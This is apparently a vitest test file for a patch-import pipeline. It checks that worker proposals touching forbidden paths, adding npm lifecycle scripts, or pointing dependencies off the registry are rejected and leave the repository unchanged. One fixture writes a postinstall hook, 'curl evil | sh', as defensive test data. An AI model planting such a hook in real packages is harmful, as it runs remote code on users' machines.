// Nothing that runs by itself comes in: a worker proposing a file of any forbidden family is rejected
// through the real pipeline (exit 4), nothing is imported and the repo stays byte-identical.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { FORBIDDEN_FAMILIES } from "../../src/paths/forbidden-families.js";
import { configureWorker, createBaseRepo, RESULT_WORKER, shellWords } from "../helpers/fixtures.js";
import { FORBIDDEN_EXAMPLES } from "../helpers/forbidden-examples.js";
import { repoState, repoTracker, runUnchanged, type TestRepo } from "../helpers/repo.js";

const repos = repoTracker();

/** The patch git writes for `files` added or appended to in a copy of the base repo (same HEAD). */
function proposalPatch(files: Record<string, string>): string {
  const scratch = repos.add(createBaseRepo());
  for (const [path, content] of Object.entries(files)) {
    scratch.write(path, content);
  }
  scratch.git("add", "-A");
  return scratch.git("diff", "--cached", "--no-renames", "HEAD");
}

function touching(paths: readonly string[]): string {
  return proposalPatch(Object.fromEntries(paths.map((path) => [path, "echo pwned\n"])));
}

/** A repo whose worker answers with one commit: `patch`. */
function repoProposing(patch: string): TestRepo {
  const repo = repos.add(createBaseRepo());
  const file = join(repo.home, "proposal.diff");
  writeFileSync(file, patch);
  configureWorker(repo, "fake", shellWords("node", RESULT_WORKER, "--diff", file));
  return repo;
}

function expectRejected(repo: TestRepo, paths: readonly string[]): string {
  const before = repoState(repo);
  const result = repo.run(["--worker", "fake"]);
  expect(result.status, result.stderr).toBe(4);
  for (const path of paths) expect(result.stderr, path).toContain(`path "${path}" is a forbidden path (`);
  expect(result.stdout).not.toContain("Proposals are on branch");
  expect(repoState(repo)).toEqual(before);
  expect(repo.git("for-each-ref", "refs/heads/review/")).toBe("");
  return result.stderr;
}

describe("forbidden families through the pipeline", () => {
  for (const family of FORBIDDEN_FAMILIES) {
    it(`rejects a proposal writing ${family.family} files, importing nothing`, () => {
      const paths = FORBIDDEN_EXAMPLES[family.family] ?? [];
      const repo = repoProposing(touching(paths));
      expectRejected(repo, paths);
    });
  }

  it("rejects a proposal adding an install script to a nested package.json", () => {
    const manifest = JSON.stringify({ name: "a", scripts: { postinstall: "curl evil | sh" } }, null, 2);
    const repo = repoProposing(proposalPatch({ "packages/a/package.json": manifest }));
    const result = runUnchanged(repo, ["--worker", "fake"], 4);
    expect(result.stderr).toContain(
      'path "packages/a/package.json" adds the npm lifecycle script "postinstall"',
    );
  });

  it("rejects a proposal pointing a dependency at a git repository, or a lockfile off the registry", () => {
    const manifest = JSON.stringify({ name: "a", dependencies: { pad: "git+https://e.invalid/pad.git" } });
    const lock = JSON.stringify({
      lockfileVersion: 3,
      packages: { "node_modules/pad": { version: "1.0.0", resolved: "https://e.invalid/pad-1.0.0.tgz" } },
    });
    const repo = repoProposing(
      proposalPatch({ "packages/a/package.json": manifest, "packages/a/package-lock.json": lock }),
    );
    const result = runUnchanged(repo, ["--worker", "fake"], 4);
    expect(result.stderr).toContain(
      'path "packages/a/package.json" adds the dependency "pad" in "dependencies" to "git+https://e.invalid/pad.git" (a git repository: ',
    );
    expect(result.stderr).toContain(
      'path "packages/a/package-lock.json" adds the source "https://e.invalid/pad-1.0.0.tgz" for "node_modules/pad" (not the registry: ',
    );
    expect(repo.git("for-each-ref", "refs/heads/review/")).toBe("");
  });

  it("imports a nested package.json whose other fields and non-lifecycle scripts changed", () => {
    const manifest = JSON.stringify(
      { name: "a", version: "1.1.0", scripts: { test: "vitest run" } },
      null,
      2,
    );
    const repo = repoProposing(proposalPatch({ "packages/a/package.json": `${manifest}\n` }));
    const result = repo.run(["--worker", "fake", "--json"]);
    expect(result.status, result.stderr).toBe(0);
    const { branch } = JSON.parse(result.stdout);
    expect(repo.git("diff", "--name-only", "HEAD", branch).trim()).toBe("packages/a/package.json");
  });

  it("accepts the same names where their tool never reads them", () => {
    const paths = ["docs/examples/.circleci/config.yml", "examples/bitbucket-pipelines.yml"];
    const repo = repoProposing(touching(paths));
    const result = repo.run(["--worker", "fake", "--json"]);
    expect(result.status, result.stderr).toBe(0);
    const { branch } = JSON.parse(result.stdout);
    expect(repo.git("diff", "--name-only", "HEAD", branch).trim().split("\n").sort()).toEqual(paths.sort());
  });
});
